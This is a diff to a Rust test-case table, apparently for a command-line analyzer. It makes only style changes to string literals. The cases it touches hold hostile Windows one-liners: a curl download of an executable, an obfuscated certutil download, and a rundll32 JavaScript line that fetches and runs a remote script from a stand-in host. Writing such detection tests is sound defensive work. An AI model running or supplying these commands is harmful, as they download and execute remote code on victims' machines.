@@ -265,15 +265,15 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "title behind a switch",
         r#"start /b "" C:\Windows\System32\curl.exe http://192.0.2.7/a.exe"#,
-        &[r#"fetch http://192.0.2.7/a.exe"#],
+        &["fetch http://192.0.2.7/a.exe"],
     ),
     (
         "separators of a command",
         r#",;,C^Md.e^xe,;,/^C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
         &[
             r#"run CMd.exe /C,;,(("cert"util -url""cache -f http://192.0.2.7/a.exe C:\a.exe))"#,
-            r#"evaluate batch"#,
-            r#"fetch http://192.0.2.7/a.exe to C:\a.exe"#,
+            "evaluate batch",
+            r"fetch http://192.0.2.7/a.exe to C:\a.exe",
         ],
     ),
     (
@@ -281,7 +281,7 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
         r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
         &[
             r#"run rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.7/a").Exec();"#,
-            r#"evaluate javascript"#,
+            "evaluate javascript",
         ],
     ),
 ];
